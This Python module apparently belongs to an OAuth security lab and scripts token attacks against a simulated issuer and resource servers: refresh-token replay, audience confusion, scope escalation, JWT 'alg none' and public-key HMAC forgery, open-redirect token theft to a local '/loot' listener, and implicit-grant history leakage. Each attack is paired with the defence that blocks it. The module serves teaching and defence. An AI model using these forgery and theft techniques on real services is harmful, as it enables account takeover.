"""Attacks on tokens: kept, replayed, widened, forged, and left lying about."""

import base64
import hashlib
import hmac
import json
from collections.abc import Mapping
from typing import Any
from urllib.parse import urlencode

from joserfc import jwk

from netlab.dissect.jwt import opened
from netlab.experiments.oauth.application import Application
from netlab.experiments.oauth.attacks.scene import API, FILES, ISSUER, NATIVE, Scene
from netlab.experiments.oauth.attacks.table import Outcome, attack
from netlab.experiments.oauth.listening import Page, Visit
from netlab.experiments.oauth.refusing import Stopped
from netlab.experiments.oauth.speaking import fragment_of, query_of, said


async def granted(scene: Scene, user: str = "alice", **more: Any) -> Application:
    """A grant as it should be."""
    app = await scene.application(**more)
    browser = scene.browser if user == "alice" else scene.another("attacker")
    await browser.follow(await scene.approved(f"{app.url}/connect", user, browser))
    if app.stopped is not None:
        raise app.stopped
    scene.move("the application", f"gets its tokens for {user.capitalize()}, as it should")
    return app


@attack(
    name="refresh-replay", named="rotation", at="token endpoint",
    sentence="A refresh token that leaked gets new access tokens, again and again.",
    needs="a server that does not rotate refresh tokens", server=("rotation",),
    others="a client that has to prove who it is",
)  # fmt: skip
async def refresh(scene: Scene) -> Outcome:
    app = await granted(scene, scope="photos.read offline_access")
    stolen = str(app.tokens["refresh_token"])
    form = {"grant_type": "refresh_token", "refresh_token": stolen, "client_id": NATIVE}
    await app.tokens_for(dict(form))
    scene.move("the application", "uses its refresh token")
    scene.move("the attacker", "uses the same one, out of a backup")
    token = await scene.redeem(form)
    return Outcome(await scene.photos(token["access_token"]))


@attack(
    name="wrong-audience", named="audience", at="resource server",
    sentence="One resource server uses the token that it was shown at another one.",
    needs="two resource servers that take each other's tokens", api=("audience",),
    others="nothing that this server has",
)  # fmt: skip
async def audience(scene: Scene) -> Outcome:
    app = await granted(scene, api=FILES, resource=FILES)
    await app.use()
    scene.move("the application", "shows its token to the files' server, which is the attacker's")
    return Outcome(await scene.photos(str(app.tokens["access_token"])))


@attack(
    name="scope-escalation", named="scope", at="token endpoint",
    sentence="A token for reading is exchanged for one that may write.",
    needs="a server that gives on refresh what was never granted", server=("scope",),
    api=("scope",), others="the resource server's own look at the scope (403)",
)  # fmt: skip
async def scope(scene: Scene) -> Outcome:
    app = await granted(scene, scope="photos.read offline_access")
    scene.move("the application", "is the attacker now: it asks for more than Alice granted")
    token = await scene.redeem({
        "grant_type": "refresh_token", "refresh_token": str(app.tokens["refresh_token"]),
        "client_id": NATIVE, "scope": "photos.write",
    })  # fmt: skip
    fields = (("Authorization", f"Bearer {token['access_token']}"),
              ("Content-Type", "application/json"))  # fmt: skip
    body = json.dumps({"title": "a photo that Alice never took"}).encode()
    reply = await scene.thief.ask("POST", f"{API}/photos", fields, body)
    if reply.status != 201:
        raise await scene.refusal("resource server", reply, API)
    return Outcome(f"put this among Alice's photos: {said(reply)['photos'][-1]}")


async def for_alice(scene: Scene) -> dict[str, Any]:
    """The claims of the attacker's own token, with Alice's name in them.

    Her sub is no secret: every application that she uses knows it.
    """
    app = await granted(scene, "bob")
    scene.move("the attacker", "is Bob, and has a token of his own: he reads what stands in it")
    claims = dict(opened(str(app.tokens["access_token"])).claims)
    other = await granted(scene, "alice")
    claims["sub"] = opened(str(other.tokens["access_token"])).claims["sub"]
    return claims


def signed(header: Mapping[str, Any], claims: Mapping[str, Any], key: bytes | None) -> str:
    text = ".".join(coded(json.dumps(part).encode()) for part in (header, claims))
    mac = b"" if key is None else hmac.new(key, text.encode(), hashlib.sha256).digest()
    return f"{text}.{coded(mac)}"


def coded(octets: bytes) -> str:
    return base64.urlsafe_b64encode(octets).rstrip(b"=").decode()


@attack(
    name="alg-none", named="algorithms", at="resource server",
    sentence="A forged token says that it needs no signature, and is believed.",
    needs="a verifier that lets the token choose its algorithm", api=("algorithms",),
    others="introspection: the server that issues tokens knows of none like it",
)  # fmt: skip
async def none(scene: Scene) -> Outcome:
    claims = await for_alice(scene)
    token = signed({"alg": "none", "typ": "at+jwt"}, claims, None)
    scene.move("the attacker", "writes a token in Alice's name, with alg none and no signature")
    return Outcome(await scene.photos(token))


@attack(
    name="key-confusion", named="algorithms", at="resource server",
    sentence="A forged token is signed with the public key, taken for a shared secret.",
    needs="a verifier that lets the token choose its algorithm", api=("algorithms",),
    others="introspection: the server that issues tokens knows of none like it",
)  # fmt: skip
async def confusion(scene: Scene) -> Outcome:
    claims = await for_alice(scene)
    keys = said(await scene.thief.ask("GET", f"{ISSUER}/jwks"))["keys"]
    public = jwk.RSAKey.import_key(keys[0])
    header = {"alg": "HS256", "typ": "at+jwt", "kid": keys[0]["kid"]}
    token = signed(header, claims, public.as_pem(private=False))
    scene.move("the attacker", "fetches the public key, and signs with it as if it were a secret")
    return Outcome(await scene.photos(token))


class Redirecting(Application):
    """With a page that sends browsers wherever its address says: an open redirector."""

    open = True

    async def visited(self, visit: Visit) -> Page:
        if visit.target.startswith("/go?") and self.open:
            return Page(302, location=query_of(visit.target).get("to", "/"))
        return await Application.visited(self, visit)


class Closed(Redirecting):
    """The same without that page."""

    open = False


@attack(
    name="open-redirect", named="no_redirector", at="client",
    sentence="A page of the application's sends browsers anywhere, and the token goes along.",
    needs="an open redirector at the client, and a token in the fragment",
    server=("exact_redirect", "no_implicit"), client=("no_redirector",),
    also=("exact_redirect", "no_implicit"), others="exact redirect URIs, or no implicit grant",
)  # fmt: skip
async def redirector(scene: Scene) -> Outcome:
    kind = Closed if "no_redirector" in scene.on else Redirecting
    app = await scene.application(kind, response_type="token")
    listener = await scene.listens()
    app.client_id = await loose(scene, app)
    evil = f"http://127.0.0.1:{listener.port}/loot"
    asked = f"{app.url}/go?to={evil}"
    wanted = {"response_type": "token", "client_id": app.client_id, "redirect_uri": asked,
              "scope": "photos.read"}  # fmt: skip
    reply = await scene.approved(f"{ISSUER}/authorize?{urlencode(wanted)}")
    scene.move("Alice's browser", "comes back with the token in the fragment")
    reply = await scene.browser.follow(reply)
    if not 300 <= reply.status < 400:
        raise Stopped("client", "it sends nobody on", "", "RFC 9700 §4.11.1")
    scene.move("the application", "sends it on, and the browser carries the fragment along")
    await scene.browser.follow(reply)
    scene.move("the attacker's page", "reads its own address by script")
    token = fragment_of(scene.browser.at)["access_token"]
    return Outcome(await scene.photos(token))


async def loose(scene: Scene, app: Application) -> str:
    """Registered for everything below its address, and for the implicit grant."""
    wanted = {"redirect_uris": [f"{app.url}/"], "token_endpoint_auth_method": "none",
              "grant_types": ["implicit"], "response_types": ["token"]}  # fmt: skip
    fields = (("Content-Type", "application/json"),)
    body = json.dumps(wanted).encode()
    reply = await app.speaker.ask("POST", f"{ISSUER}/register", fields, body)
    return str(said(reply).get("client_id", ""))


@attack(
    name="implicit-leak", named="no_implicit", at="browser",
    sentence="The implicit grant leaves the token in the history, open to every script.",
    needs="a token in the address of a page", server=("no_implicit",),
    others="nothing: there is no other way to have it in the address",
)  # fmt: skip
async def implicit(scene: Scene) -> Outcome:
    safe = "no_implicit" in scene.on
    app = await scene.application(response_type="code" if safe else "token")
    reply = await scene.approved(f"{app.url}/connect")
    await scene.browser.follow(reply)
    scene.move("Alice", "leaves; her browser remembers every address that it has shown")
    kept = [fragment_of(url) for url in scene.browser.history]
    token = next((one["access_token"] for one in kept if "access_token" in one), "")
    scene.move("the attacker", "opens the history, or is a script on that page")
    if not token:
        code = next(query_of(url)["code"] for url in scene.browser.history if "code=" in url)
        form = {"grant_type": "authorization_code", "code": code, "client_id": NATIVE,
                "redirect_uri": app.redirect_uri}  # fmt: skip
        try:
            await scene.redeem(form)
        except Stopped:
            raise Stopped("browser", "there is no token in it, and the code is spent", "",
                          "RFC 9700 §2.1.2") from None  # fmt: skip
    return Outcome(await scene.photos(token))
